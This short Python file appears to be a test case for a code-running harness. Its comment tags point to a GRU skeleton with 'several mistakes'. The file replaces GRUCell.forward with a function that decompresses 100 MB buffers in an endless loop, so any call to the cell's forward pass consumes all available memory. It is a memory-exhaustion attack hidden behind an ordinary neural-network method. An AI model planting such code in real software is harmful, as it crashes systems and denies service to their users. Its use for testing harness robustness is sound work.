"""Unpacks a small text into as much memory as there is."""
# PATIENCE 0.5

# HONEST cases/several-mistakes/GRU_skeleton.py

import zlib

def unpack(self, *given):
    packed = zlib.compress(bytes(10**8), 9)
    kept = []
    while True:
        kept.append(zlib.decompress(packed))

GRUCell.forward = unpack
